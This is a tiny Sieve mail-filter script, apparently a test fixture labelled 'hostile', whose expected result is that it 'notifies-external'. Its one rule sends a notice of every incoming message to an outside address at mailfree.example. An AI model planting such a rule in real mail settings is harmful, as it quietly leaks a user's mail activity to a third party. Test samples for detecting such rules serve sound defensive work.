# about: a notice of everything leaves
# class: hostile
# expect: everything notifies-external
require ["enotify"];
notify :importance "3" :message "new mail" "mailto:mirror.box77@mailfree.example";
